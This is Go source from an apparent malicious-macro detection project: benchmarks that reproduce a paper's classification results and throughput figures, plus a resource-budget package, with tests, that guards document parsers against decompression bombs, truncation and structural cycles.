// Benchmarks that regenerate the paper's tables and figures (DESIGN.md §4
// maps each to its experiment). Each benchmark reports the reproduced
// headline numbers through b.ReportMetric, so `go test -bench=.` doubles
// as a compact experiment runner; cmd/experiments produces the full
// human-readable reports.
//
// Benchmark-scale corpora are 1/10 of the paper's (keeping class ratios);
// run cmd/experiments without -scale for the full 4,212-macro evaluation.
package main

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"runtime"
	"sync"
	"testing"
	"time"

	"repro/internal/core"
	"repro/internal/corpus"
	"repro/internal/eval"
	"repro/internal/experiments"
	"repro/internal/features"
	"repro/internal/ml"
	"repro/internal/scan"
	"repro/internal/telemetry"
)

// benchData lazily generates the shared benchmark corpus and its packaged
// files once per test binary.
var benchData = struct {
	once    sync.Once
	dataset *corpus.Dataset
	files   []corpus.File
	err     error
}{}

func benchCorpus(b *testing.B) (*corpus.Dataset, []corpus.File) {
	b.Helper()
	benchData.once.Do(func() {
		spec := corpus.SmallSpec()
		benchData.dataset = corpus.GenerateMacros(spec)
		benchData.files, benchData.err = benchData.dataset.BuildFiles()
	})
	if benchData.err != nil {
		b.Fatal(benchData.err)
	}
	return benchData.dataset, benchData.files
}

// BenchmarkTable2DatasetSummary regenerates Table II (file counts by host
// application and average file sizes).
func BenchmarkTable2DatasetSummary(b *testing.B) {
	_, files := benchCorpus(b)
	var rows []experiments.Table2Row
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		rows = experiments.Table2(files)
	}
	b.ReportMetric(float64(rows[0].AvgSize), "benignAvgBytes")
	b.ReportMetric(float64(rows[1].AvgSize), "maliciousAvgBytes")
	b.ReportMetric(float64(rows[0].AvgSize)/float64(rows[1].AvgSize), "sizeRatio")
}

// BenchmarkTable3ExtractionSummary regenerates Table III: the extraction /
// dedup / significance pipeline over every document plus obfuscation-rate
// accounting.
func BenchmarkTable3ExtractionSummary(b *testing.B) {
	dataset, files := benchCorpus(b)
	var rows []experiments.Table3Row
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		var err error
		rows, err = experiments.Table3(dataset, files)
		if err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(100*rows[0].ObfuscationRate(), "benignObfPct")
	b.ReportMetric(100*rows[1].ObfuscationRate(), "maliciousObfPct")
}

// BenchmarkFigure5CodeLength regenerates the Figure 5 code-length
// distributions and reports how strongly obfuscated lengths cluster on the
// obfuscator block sizes.
func BenchmarkFigure5CodeLength(b *testing.B) {
	dataset, _ := benchCorpus(b)
	var fig experiments.Figure5
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		fig = experiments.RunFigure5(dataset)
	}
	clusters := fig.Clusters([]int{1500, 3000, 4500, 6000, 7500, 9000, 15000, 30000})
	inBand := 0
	for _, c := range clusters {
		inBand += c
	}
	b.ReportMetric(100*float64(inBand)/float64(len(fig.Obfuscated)), "obfInBandPct")
}

// BenchmarkTable5Classification regenerates Table V at benchmark scale:
// all five classifiers on both feature sets under stratified CV.
func BenchmarkTable5Classification(b *testing.B) {
	dataset, _ := benchCorpus(b)
	var results []experiments.ClassifierResult
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		var err error
		results, err = experiments.RunClassification(dataset, experiments.ClassificationConfig{
			Folds: 5, Seed: 1,
		})
		if err != nil {
			b.Fatal(err)
		}
	}
	for _, r := range results {
		if r.FeatureSet == core.FeatureSetV && r.Algorithm == core.AlgoRF {
			b.ReportMetric(r.Accuracy, "V-RF-accuracy")
			b.ReportMetric(r.Recall, "V-RF-recall")
		}
	}
}

// BenchmarkFigure6F2Scores regenerates Figure 6 (per-classifier F2) and
// reports the headline comparison: best V F2 versus best J F2.
func BenchmarkFigure6F2Scores(b *testing.B) {
	dataset, _ := benchCorpus(b)
	var results []experiments.ClassifierResult
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		var err error
		results, err = experiments.RunClassification(dataset, experiments.ClassificationConfig{
			Folds: 5, Seed: 1,
		})
		if err != nil {
			b.Fatal(err)
		}
	}
	bestV := experiments.BestF2(results, core.FeatureSetV)
	bestJ := experiments.BestF2(results, core.FeatureSetJ)
	b.ReportMetric(bestV.F2, "bestV-F2")
	b.ReportMetric(bestJ.F2, "bestJ-F2")
}

// BenchmarkFigure7ROC regenerates Figure 7: pooled out-of-fold ROC curves
// and AUC of the best configuration per feature set.
func BenchmarkFigure7ROC(b *testing.B) {
	dataset, _ := benchCorpus(b)
	var results []experiments.ClassifierResult
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		var err error
		results, err = experiments.RunClassification(dataset, experiments.ClassificationConfig{
			Folds: 5, Seed: 1, KeepROC: true,
			Algorithms: []core.Algorithm{core.AlgoMLP, core.AlgoRF},
		})
		if err != nil {
			b.Fatal(err)
		}
	}
	if v := experiments.BestF2(results, core.FeatureSetV); v != nil {
		b.ReportMetric(v.AUC, "V-AUC")
	}
	if j := experiments.BestF2(results, core.FeatureSetJ); j != nil {
		b.ReportMetric(j.AUC, "J-AUC")
	}
}

// BenchmarkAblationFeatureGroups measures the F2 contribution of each
// per-obfuscation-type feature channel (DESIGN.md §5).
func BenchmarkAblationFeatureGroups(b *testing.B) {
	dataset, _ := benchCorpus(b)
	groups := map[string][]int{
		"full":    nil,
		"no-O1":   {12, 13, 14},
		"no-O2":   {4, 5, 6},
		"no-O3":   {7, 8, 9, 10},
		"no-rich": {11},
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		for name, drop := range groups {
			res, err := experiments.RunAblation(dataset, drop, 5, 1)
			if err != nil {
				b.Fatal(err)
			}
			if i == 0 {
				b.ReportMetric(res.Confusion.F2(), name+"-F2")
			}
		}
	}
}

// BenchmarkAblationNormalization compares the paper's V1-normalized counts
// against raw counts (§IV.C design choice).
func BenchmarkAblationNormalization(b *testing.B) {
	dataset, _ := benchCorpus(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		norm, raw, err := experiments.RunNormalizationAblation(dataset, 5, 1)
		if err != nil {
			b.Fatal(err)
		}
		if i == 0 {
			b.ReportMetric(norm.Confusion.F2(), "normalized-F2")
			b.ReportMetric(raw.Confusion.F2(), "raw-F2")
		}
	}
}

// BenchmarkFoldStability compares 10-fold and 5-fold cross-validation
// variance (DESIGN.md §5).
func BenchmarkFoldStability(b *testing.B) {
	dataset, _ := benchCorpus(b)
	X := make([][]float64, len(dataset.Macros))
	for i, m := range dataset.Macros {
		X[i] = features.ExtractV(m.Source)
	}
	y := dataset.Labels()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		for _, k := range []int{5, 10} {
			res, err := eval.CrossValidate(func(fold int) ml.Classifier {
				return ml.NewRandomForest(int64(fold))
			}, X, y, k, 1)
			if err != nil {
				b.Fatal(err)
			}
			if i == 0 {
				b.ReportMetric(spread(res.FoldAccuracy), map[int]string{5: "spread5", 10: "spread10"}[k])
			}
		}
	}
}

// BenchmarkForestSizeSweep sweeps the RF ensemble size (ablation).
func BenchmarkForestSizeSweep(b *testing.B) {
	dataset, _ := benchCorpus(b)
	X := make([][]float64, len(dataset.Macros))
	for i, m := range dataset.Macros {
		X[i] = features.ExtractV(m.Source)
	}
	y := dataset.Labels()
	for _, trees := range []int{10, 50, 100} {
		b.Run(map[int]string{10: "trees10", 50: "trees50", 100: "trees100"}[trees], func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				res, err := eval.CrossValidate(func(fold int) ml.Classifier {
					rf := ml.NewRandomForest(int64(fold))
					rf.Trees = trees
					return rf
				}, X, y, 5, 1)
				if err != nil {
					b.Fatal(err)
				}
				if i == 0 {
					b.ReportMetric(res.Confusion.F2(), "F2")
				}
			}
		})
	}
}

// BenchmarkMLPWidthSweep sweeps the MLP hidden width (ablation).
func BenchmarkMLPWidthSweep(b *testing.B) {
	dataset, _ := benchCorpus(b)
	X := make([][]float64, len(dataset.Macros))
	for i, m := range dataset.Macros {
		X[i] = features.ExtractV(m.Source)
	}
	y := dataset.Labels()
	for _, width := range []int{10, 50, 100} {
		b.Run(map[int]string{10: "width10", 50: "width50", 100: "width100"}[width], func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				res, err := eval.CrossValidate(func(fold int) ml.Classifier {
					mlp := ml.NewMLP(int64(fold))
					mlp.Hidden = width
					mlp.Epochs = 100
					return ml.NewScaled(mlp)
				}, X, y, 5, 1)
				if err != nil {
					b.Fatal(err)
				}
				if i == 0 {
					b.ReportMetric(res.Confusion.F2(), "F2")
				}
			}
		})
	}
}

// scanBench holds the trained detector and packaged documents shared by
// the throughput benchmarks, plus the 1-worker baseline measured by the
// first BenchmarkScanThroughput sub-benchmark (they run in declaration
// order, so the speedup metric on later sub-benchmarks is well-defined).
var scanBench = struct {
	once     sync.Once
	det      *core.Detector
	docs     []scan.Document
	err      error
	baseline float64 // 1-worker files/s
}{}

func scanBenchSetup(b *testing.B) (*core.Detector, []scan.Document) {
	b.Helper()
	dataset, files := benchCorpus(b)
	scanBench.once.Do(func() {
		det, err := core.NewDetector(core.AlgoRF, core.FeatureSetV, 1)
		if err != nil {
			scanBench.err = err
			return
		}
		if err := det.Train(dataset.Sources(), dataset.Labels()); err != nil {
			scanBench.err = err
			return
		}
		docs := make([]scan.Document, len(files))
		for i, f := range files {
			docs[i] = scan.Document{Name: f.Name, Data: f.Data}
		}
		scanBench.det = det
		scanBench.docs = docs
	})
	if scanBench.err != nil {
		b.Fatal(scanBench.err)
	}
	return scanBench.det, scanBench.docs
}

// BenchmarkScanThroughput measures the batch engine's document throughput
// (extract → featurize → classify) at several worker counts, reporting
// files/s, macros/s and the speedup of each count over the 1-worker
// baseline. On multi-core hardware the 4-worker run should deliver ≥ 2×
// the baseline files/s; on a single core the pool degrades gracefully to
// sequential throughput.
func BenchmarkScanThroughput(b *testing.B) {
	det, docs := scanBenchSetup(b)
	counts := []int{1, 4}
	if p := runtime.GOMAXPROCS(0); p != 1 && p != 4 {
		counts = append(counts, p)
	}
	for _, workers := range counts {
		b.Run(fmt.Sprintf("workers%d", workers), func(b *testing.B) {
			engine := scan.New(det, workers)
			var macros int64
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				_, stats, err := engine.ScanAll(context.Background(), docs)
				if err != nil {
					b.Fatal(err)
				}
				macros = stats.Macros
			}
			fps := float64(len(docs)) * float64(b.N) / b.Elapsed().Seconds()
			b.ReportMetric(fps, "files/s")
			b.ReportMetric(float64(macros)*float64(b.N)/b.Elapsed().Seconds(), "macros/s")
			if workers == 1 {
				scanBench.baseline = fps
			} else if scanBench.baseline > 0 {
				b.ReportMetric(fps/scanBench.baseline, "speedup")
			}
		})
	}
}

// BenchmarkTelemetryOverhead measures the scan engine with telemetry
// disabled (the nil fast path every instrument takes — directly comparable
// to BenchmarkScanThroughput/workers4) against the engine with tracing and
// auditing enabled, reporting the enabled-path cost as overheadPct. The
// disabled sub-benchmark is the proof that instrumentation without a
// configured sink costs nothing measurable (<2%): it runs the exact same
// instrumented code as BenchmarkScanThroughput.
func BenchmarkTelemetryOverhead(b *testing.B) {
	det, docs := scanBenchSetup(b)
	run := func(b *testing.B, configure func(*scan.Engine)) float64 {
		engine := scan.New(det, 4)
		if configure != nil {
			configure(engine)
		}
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			if _, _, err := engine.ScanAll(context.Background(), docs); err != nil {
				b.Fatal(err)
			}
		}
		return float64(len(docs)) * float64(b.N) / b.Elapsed().Seconds()
	}
	var disabled float64
	b.Run("disabled", func(b *testing.B) {
		disabled = run(b, nil)
		b.ReportMetric(disabled, "files/s")
	})
	b.Run("enabled", func(b *testing.B) {
		enabled := run(b, func(e *scan.Engine) {
			e.SetTraceSink(func(tr *telemetry.Tracer) { _ = tr.Trace() })
			e.SetAudit(telemetry.NewAuditLogger(io.Discard, telemetry.AuditConfig{}))
		})
		b.ReportMetric(enabled, "files/s")
		if disabled > 0 {
			b.ReportMetric(100*(disabled-enabled)/disabled, "overheadPct")
		}
	})
}

// BenchmarkTrainParallel measures end-to-end training (parallel
// featurization + parallel Random Forest fitting) at 1 worker versus
// GOMAXPROCS, reporting the speedup and verifying the two models are
// bit-identical — the determinism guarantee of per-tree seeded RNGs.
func BenchmarkTrainParallel(b *testing.B) {
	dataset, _ := benchCorpus(b)
	sources, labels := dataset.Sources(), dataset.Labels()
	train := func(workers int) ([]byte, time.Duration) {
		det, err := core.NewDetector(core.AlgoRF, core.FeatureSetV, 1)
		if err != nil {
			b.Fatal(err)
		}
		det.SetWorkers(workers)
		start := time.Now()
		if err := det.Train(sources, labels); err != nil {
			b.Fatal(err)
		}
		elapsed := time.Since(start)
		blob, err := det.SaveModel()
		if err != nil {
			b.Fatal(err)
		}
		return blob, elapsed
	}
	var seq, par time.Duration
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		blob1, d1 := train(1)
		blobN, dN := train(runtime.GOMAXPROCS(0))
		if !bytes.Equal(blob1, blobN) {
			b.Fatal("parallel training is not bit-identical to sequential")
		}
		seq += d1
		par += dN
	}
	b.ReportMetric(float64(len(sources))*float64(b.N)/par.Seconds(), "macros/s")
	b.ReportMetric(seq.Seconds()/par.Seconds(), "speedup")
}

// BenchmarkFeaturizeHotPath measures the single-pass featurizer over the
// benchmark corpus — the per-macro hot path of every scan. allocs/op is the
// headline: the streaming rewrite plus pooled lexer buffers cut it by well
// over 60% versus the slice-materializing seed implementation, and CI's
// benchstat gate holds the line against the committed baseline.
func BenchmarkFeaturizeHotPath(b *testing.B) {
	dataset, _ := benchCorpus(b)
	sources := dataset.Sources()
	var total int64
	for _, s := range sources {
		total += int64(len(s))
	}
	sets := []struct {
		name    string
		extract func(string) []float64
	}{
		{"V", features.ExtractV},
		{"J", features.ExtractJ},
	}
	for _, set := range sets {
		b.Run(set.name, func(b *testing.B) {
			b.SetBytes(total)
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				for _, src := range sources {
					set.extract(src)
				}
			}
			b.ReportMetric(float64(len(sources))*float64(b.N)/b.Elapsed().Seconds(), "macros/s")
		})
	}
}

// BenchmarkFeaturizeChannels measures every registered feature channel in
// isolation over a shared single-pass analysis, plus the full stacked
// layout end to end (analyze + all four channels) — the per-macro cost a
// stack-model deployment adds over the V-only hot path. allocs/op per
// channel is the gate: a channel that allocates per call multiplies
// across the corpus.
func BenchmarkFeaturizeChannels(b *testing.B) {
	dataset, _ := benchCorpus(b)
	sources := dataset.Sources()
	var total int64
	for _, s := range sources {
		total += int64(len(s))
	}
	analyses := make([]*features.Analysis, len(sources))
	for i, src := range sources {
		analyses[i] = features.Analyze(src)
	}
	for _, name := range features.ChannelNames() {
		ch := features.MustChannel(name)
		b.Run(name, func(b *testing.B) {
			b.SetBytes(total)
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				for _, a := range analyses {
					ch.Extract(a)
				}
			}
			b.ReportMetric(float64(len(sources))*float64(b.N)/b.Elapsed().Seconds(), "macros/s")
		})
	}
	b.Run("stack", func(b *testing.B) {
		b.SetBytes(total)
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			for _, src := range sources {
				core.FeatureSetStack.Extract(src)
			}
		}
		b.ReportMetric(float64(len(sources))*float64(b.N)/b.Elapsed().Seconds(), "macros/s")
	})
}

// BenchmarkScanThroughputDup measures the batch engine on a duplicate-heavy
// corpus (every document appears twice — the mail-gateway traffic shape)
// with and without the content-addressed verdict caches. The cache run
// takes one unmeasured warm pass first, so the measured steady state is the
// long-running daemon's: the speedup metric on the cache sub-benchmark
// should be well above 2×.
func BenchmarkScanThroughputDup(b *testing.B) {
	det, docs := scanBenchSetup(b)
	dup := make([]scan.Document, 0, 2*len(docs))
	for _, d := range docs {
		dup = append(dup, d, scan.Document{Name: d.Name + ".dup", Data: d.Data})
	}
	const workers = 4
	run := func(b *testing.B, engine *scan.Engine) float64 {
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			if _, _, err := engine.ScanAll(context.Background(), dup); err != nil {
				b.Fatal(err)
			}
		}
		return float64(len(dup)) * float64(b.N) / b.Elapsed().Seconds()
	}
	var base float64
	b.Run("nocache", func(b *testing.B) {
		base = run(b, scan.New(det, workers))
		b.ReportMetric(base, "files/s")
	})
	b.Run("cache", func(b *testing.B) {
		det.SetMacroCache(core.NewMacroCache(8192, 0))
		b.Cleanup(func() { det.SetMacroCache(nil) })
		engine := scan.New(det, workers)
		engine.SetDocCache(scan.NewDocCache(4096, 0))
		if _, _, err := engine.ScanAll(context.Background(), dup); err != nil {
			b.Fatal(err)
		}
		fps := run(b, engine)
		b.ReportMetric(fps, "files/s")
		if base > 0 {
			b.ReportMetric(fps/base, "speedup")
		}
	})
}

// spread is max - min.
func spread(xs []float64) float64 {
	if len(xs) == 0 {
		return 0
	}
	lo, hi := xs[0], xs[0]
	for _, x := range xs {
		if x < lo {
			lo = x
		}
		if x > hi {
			hi = x
		}
	}
	return hi - lo
}
