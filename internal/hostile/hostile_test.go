package hostile

import (
	"errors"
	"fmt"
	"syscall"
	"testing"
	"time"
)

func TestNilBudgetIsUnlimited(t *testing.T) {
	var b *Budget
	if err := b.GrowOutput(1 << 40); err != nil {
		t.Fatalf("nil GrowOutput: %v", err)
	}
	if err := b.EnterContainer(); err != nil {
		t.Fatalf("nil EnterContainer: %v", err)
	}
	b.ExitContainer()
	if err := b.VisitDirEntry(); err != nil {
		t.Fatalf("nil VisitDirEntry: %v", err)
	}
	if err := b.AddTokens(1 << 40); err != nil {
		t.Fatalf("nil AddTokens: %v", err)
	}
	if err := b.CheckDeadline(); err != nil {
		t.Fatalf("nil CheckDeadline: %v", err)
	}
	if err := b.CheckMacroSource(1 << 40); err != nil {
		t.Fatalf("nil CheckMacroSource: %v", err)
	}
	if !b.AddStorageString() {
		t.Fatal("nil AddStorageString should accept")
	}
	if b.OutputAllowance() <= 0 || b.TokenAllowance() <= 0 {
		t.Fatal("nil allowances should be effectively infinite")
	}
	if b.Fork() != nil {
		t.Fatal("nil Fork should stay nil")
	}
}

func TestNormalizeFillsDefaults(t *testing.T) {
	l := Limits{}.Normalize()
	if l.MaxDecompressedBytes != DefaultMaxDecompressedBytes ||
		l.MaxContainerDepth != DefaultMaxContainerDepth ||
		l.MaxDirEntries != DefaultMaxDirEntries ||
		l.MaxLexTokens != DefaultMaxLexTokens ||
		l.MaxMacroSourceBytes != DefaultMaxMacroSourceBytes ||
		l.MaxStorageStrings != DefaultMaxStorageStrings {
		t.Fatalf("defaults not applied: %+v", l)
	}
	custom := Limits{MaxDecompressedBytes: 10}.Normalize()
	if custom.MaxDecompressedBytes != 10 || custom.MaxContainerDepth != DefaultMaxContainerDepth {
		t.Fatalf("partial override wrong: %+v", custom)
	}
}

func TestGrowOutputBomb(t *testing.T) {
	b := NewBudget(Limits{MaxDecompressedBytes: 100})
	if err := b.GrowOutput(60); err != nil {
		t.Fatal(err)
	}
	err := b.GrowOutput(60)
	if err == nil {
		t.Fatal("expected bomb error")
	}
	if !errors.Is(err, ErrBomb) || !errors.Is(err, ErrLimitExceeded) {
		t.Fatalf("bomb should match ErrBomb and ErrLimitExceeded: %v", err)
	}
	var le *LimitError
	if !errors.As(err, &le) || le.Limit != LimitDecompressedBytes || le.Got != 120 || le.Max != 100 {
		t.Fatalf("LimitError detail wrong: %+v", le)
	}
	if got := Classify(err); got != "bomb" {
		t.Fatalf("Classify = %q, want bomb", got)
	}
}

func TestContainerDepth(t *testing.T) {
	b := NewBudget(Limits{MaxContainerDepth: 2})
	if err := b.EnterContainer(); err != nil {
		t.Fatal(err)
	}
	if err := b.EnterContainer(); err != nil {
		t.Fatal(err)
	}
	err := b.EnterContainer()
	if err == nil || !errors.Is(err, ErrLimitExceeded) {
		t.Fatalf("depth 3 of 2 should fail: %v", err)
	}
	if Classify(err) != "limit" {
		t.Fatalf("Classify = %q, want limit", Classify(err))
	}
	// Exiting frees the level again.
	b.ExitContainer()
	b.ExitContainer()
	if err := b.EnterContainer(); err != nil {
		t.Fatalf("re-enter after exit: %v", err)
	}
}

func TestDeadline(t *testing.T) {
	b := NewBudget(Limits{}).WithDeadline(time.Now().Add(-time.Millisecond))
	err := b.CheckDeadline()
	if err == nil || Classify(err) != "deadline" {
		t.Fatalf("expired deadline: %v (class %q)", err, Classify(err))
	}
	if !ExhaustsBudget(err) {
		t.Fatal("deadline exhaustion should quarantine")
	}
	b2 := NewBudget(Limits{}).WithDeadline(time.Now().Add(time.Hour))
	if err := b2.CheckDeadline(); err != nil {
		t.Fatalf("future deadline: %v", err)
	}
}

func TestTokensAndDirEntries(t *testing.T) {
	b := NewBudget(Limits{MaxLexTokens: 5, MaxDirEntries: 2})
	if err := b.AddTokens(5); err != nil {
		t.Fatal(err)
	}
	if err := b.AddTokens(1); err == nil || LimitName(err) != LimitLexTokens {
		t.Fatalf("token budget: %v", err)
	}
	if err := b.VisitDirEntry(); err != nil {
		t.Fatal(err)
	}
	if err := b.VisitDirEntry(); err != nil {
		t.Fatal(err)
	}
	if err := b.VisitDirEntry(); err == nil || LimitName(err) != LimitDirEntries {
		t.Fatalf("dir entry budget: %v", err)
	}
}

func TestStorageStringCap(t *testing.T) {
	b := NewBudget(Limits{MaxStorageStrings: 2})
	if !b.AddStorageString() || !b.AddStorageString() {
		t.Fatal("first two strings should be accepted")
	}
	if b.AddStorageString() {
		t.Fatal("third string should be rejected")
	}
}

func TestFork(t *testing.T) {
	b := NewBudget(Limits{MaxDecompressedBytes: 100})
	if err := b.GrowOutput(90); err != nil {
		t.Fatal(err)
	}
	f := b.Fork()
	if err := f.GrowOutput(90); err != nil {
		t.Fatalf("fork should have fresh counters: %v", err)
	}
	if err := f.GrowOutput(20); err == nil {
		t.Fatal("fork should still enforce limits")
	}
	// Parent unchanged by the fork's consumption.
	if got := b.OutputAllowance(); got != 10 {
		t.Fatalf("parent allowance = %d, want 10", got)
	}
}

func TestClassifyWrappedErrors(t *testing.T) {
	cases := []struct {
		err  error
		want string
	}{
		{fmt.Errorf("pkg: context: %w", ErrTruncated), "truncated"},
		{fmt.Errorf("pkg: %w: detail", ErrMalformed), "malformed"},
		{fmt.Errorf("outer: %w", fmt.Errorf("inner: %w", ErrCycle)), "cycle"},
		{errors.New("plain"), ""},
		{nil, ""},
	}
	for _, c := range cases {
		if got := Classify(c.err); got != c.want {
			t.Errorf("Classify(%v) = %q, want %q", c.err, got, c.want)
		}
	}
}

func TestIsTransient(t *testing.T) {
	if IsTransient(fmt.Errorf("load: %w", ErrTransient)) != true {
		t.Fatal("ErrTransient wrap should be transient")
	}
	if IsTransient(fmt.Errorf("read: %w", syscall.EINTR)) != true {
		t.Fatal("EINTR should be transient")
	}
	if IsTransient(fmt.Errorf("parse: %w", ErrMalformed)) {
		t.Fatal("malformed input is not transient")
	}
	if IsTransient(NewBudget(Limits{MaxDecompressedBytes: 1}).BombError(2)) {
		t.Fatal("budget exhaustion is not transient")
	}
	if IsTransient(nil) {
		t.Fatal("nil is not transient")
	}
}
