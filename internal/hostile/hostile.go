// Package hostile is the resource-budget and error-taxonomy layer that
// hardens the extraction pipeline against adversarial inputs. Malware
// authors ship truncated containers, decompression bombs and cyclically
// linked FAT chains precisely to crash or stall static analyzers (MEADE,
// arXiv:1804.08162), so every parser in this repository charges its work
// against a per-document Budget and reports failures through a small typed
// taxonomy usable with errors.Is / errors.As:
//
//	ErrTruncated     — input ends before a structure it promised
//	ErrBomb          — decompressed output exceeds the budget
//	ErrLimitExceeded — any resource budget exhausted (bombs included)
//	ErrMalformed     — structurally invalid input
//	ErrCycle         — cyclic structural references (FAT chains, dir trees)
//
// A Budget is created per document from a Limits configuration and is NOT
// safe for concurrent use: each scan owns its budget for the lifetime of
// one document, mirroring how the scan engine parallelizes across (not
// within) documents.
package hostile

import (
	"errors"
	"fmt"
	"net"
	"syscall"
	"time"
)

// Taxonomy sentinel errors. Parser errors wrap exactly one of the specific
// kinds (plus any package-local sentinel they already carried); budget
// exhaustion additionally matches ErrLimitExceeded.
var (
	// ErrTruncated reports input that ends before a structure its headers
	// promised (short sectors, cut-off chunk headers, missing stream tails).
	ErrTruncated = errors.New("hostile: truncated input")
	// ErrBomb reports decompressed or chain output exceeding the budget —
	// the decompression-bomb class. Every ErrBomb also matches
	// ErrLimitExceeded.
	ErrBomb = errors.New("hostile: decompression bomb")
	// ErrLimitExceeded reports any exhausted resource budget (bytes, depth,
	// entries, tokens, deadline).
	ErrLimitExceeded = errors.New("hostile: resource limit exceeded")
	// ErrMalformed reports structurally invalid input that is neither
	// truncation nor a cycle (bad magic, impossible sector numbers, invalid
	// record framing).
	ErrMalformed = errors.New("hostile: malformed input")
	// ErrCycle reports cyclic structural references: FAT/miniFAT chain
	// loops and directory sibling cycles.
	ErrCycle = errors.New("hostile: structural cycle")
	// ErrTransient marks an error callers consider retryable (I/O hiccups
	// while loading a document, not parse failures). Wrap with fmt.Errorf
	// and %w to opt a failure into the scan engine's retry policy.
	ErrTransient = errors.New("hostile: transient error")
)

// Limit names used in LimitError.Limit and as per-limit metric keys.
const (
	LimitDecompressedBytes = "decompressed_bytes"
	LimitContainerDepth    = "container_depth"
	LimitDirEntries        = "dir_entries"
	LimitArchiveEntries    = "archive_entries"
	LimitLexTokens         = "lex_tokens"
	LimitMacroSourceBytes  = "macro_source_bytes"
	LimitStorageStrings    = "storage_strings"
	LimitDeadline          = "deadline"
)

// LimitError is the concrete error for an exhausted budget. It matches
// ErrLimitExceeded (always) and its specific Kind (ErrBomb for output
// budgets) under errors.Is, and carries which limit tripped for metrics.
type LimitError struct {
	// Limit is the budget that tripped (one of the Limit* constants).
	Limit string
	// Max is the configured ceiling; Got is the attempted total.
	Max, Got int64
	// Kind is the taxonomy sentinel this exhaustion belongs to:
	// ErrBomb for output-size budgets, ErrLimitExceeded otherwise.
	Kind error
}

// Error implements the error interface.
func (e *LimitError) Error() string {
	return fmt.Sprintf("hostile: %s budget exceeded (%d > max %d)", e.Limit, e.Got, e.Max)
}

// Unwrap exposes the taxonomy kind to errors.Is.
func (e *LimitError) Unwrap() error { return e.Kind }

// Is makes every LimitError match ErrLimitExceeded in addition to its Kind.
func (e *LimitError) Is(target error) bool {
	return target == ErrLimitExceeded || target == e.Kind
}

// Limits is the static per-document resource configuration. The zero value
// of any field means "use the default"; Normalize (called by NewBudget)
// fills defaults in, so Limits{} is a usable production configuration.
type Limits struct {
	// MaxDecompressedBytes caps the cumulative bytes materialized from
	// compressed or chained storage per document: CFB chain reads, OVBA
	// CompressedContainer output and ZIP part inflation all charge it.
	MaxDecompressedBytes int64
	// MaxContainerDepth caps nested container recursion (an OOXML package
	// whose vbaProject part is itself a package, and so on).
	MaxContainerDepth int
	// MaxDirEntries caps CFB directory entries walked per document.
	MaxDirEntries int
	// MaxArchiveEntries caps ZIP archive entries visited per document by
	// the recursive container walker — the flat-fan-out bomb bound that
	// byte and depth budgets alone do not give (a zip of 10^6 empty
	// entries inflates almost nothing and nests only one level).
	MaxArchiveEntries int
	// MaxLexTokens caps VBA lexer tokens per macro.
	MaxLexTokens int64
	// MaxMacroSourceBytes caps the size of one macro source fed to the
	// featurizer; larger macros degrade instead of stalling the parse.
	MaxMacroSourceBytes int64
	// MaxStorageStrings caps printable strings recovered from document
	// storage outside macro code.
	MaxStorageStrings int
}

// Default budget ceilings. Generous enough that no legitimate corpus
// document comes near them, tight enough that a hostile document cannot
// stall or OOM a scan worker.
const (
	DefaultMaxDecompressedBytes = int64(256 << 20) // 256 MiB
	DefaultMaxContainerDepth    = 4
	DefaultMaxDirEntries        = 16384
	DefaultMaxArchiveEntries    = 4096
	DefaultMaxLexTokens         = int64(4 << 20) // 4M tokens
	DefaultMaxMacroSourceBytes  = int64(16 << 20)
	DefaultMaxStorageStrings    = 10000
)

// DefaultLimits returns the production default configuration.
func DefaultLimits() Limits {
	return Limits{}.Normalize()
}

// Normalize fills zero fields with defaults. Negative values are treated
// as zero (default), not as "unlimited".
func (l Limits) Normalize() Limits {
	if l.MaxDecompressedBytes <= 0 {
		l.MaxDecompressedBytes = DefaultMaxDecompressedBytes
	}
	if l.MaxContainerDepth <= 0 {
		l.MaxContainerDepth = DefaultMaxContainerDepth
	}
	if l.MaxDirEntries <= 0 {
		l.MaxDirEntries = DefaultMaxDirEntries
	}
	if l.MaxArchiveEntries <= 0 {
		l.MaxArchiveEntries = DefaultMaxArchiveEntries
	}
	if l.MaxLexTokens <= 0 {
		l.MaxLexTokens = DefaultMaxLexTokens
	}
	if l.MaxMacroSourceBytes <= 0 {
		l.MaxMacroSourceBytes = DefaultMaxMacroSourceBytes
	}
	if l.MaxStorageStrings <= 0 {
		l.MaxStorageStrings = DefaultMaxStorageStrings
	}
	return l
}

// Budget tracks one document's consumption against its Limits. All methods
// are safe on a nil receiver (a nil budget is unlimited), so plumbing code
// can thread an optional budget without nil checks at every call site.
// A Budget is single-goroutine state: one document, one owner.
type Budget struct {
	lim      Limits
	deadline time.Time

	decompressed int64
	depth        int
	dirEntries   int
	arcEntries   int
	tokens       int64
	strings      int
}

// NewBudget creates a fresh budget for one document.
func NewBudget(lim Limits) *Budget {
	return &Budget{lim: lim.Normalize()}
}

// WithDeadline sets the wall-clock deadline checked by CheckDeadline and
// returns the budget for chaining. A zero time clears the deadline.
func (b *Budget) WithDeadline(t time.Time) *Budget {
	if b != nil {
		b.deadline = t
	}
	return b
}

// Limits reports the normalized configuration (zero value when nil).
func (b *Budget) Limits() Limits {
	if b == nil {
		return Limits{}
	}
	return b.lim
}

// Fork returns a budget with the same limits and deadline but fresh
// counters, for speculative parses whose output is discarded on failure.
// Charge the parent explicitly (GrowOutput) for what is actually kept.
// Fork of a nil budget is nil.
func (b *Budget) Fork() *Budget {
	if b == nil {
		return nil
	}
	return &Budget{lim: b.lim, deadline: b.deadline}
}

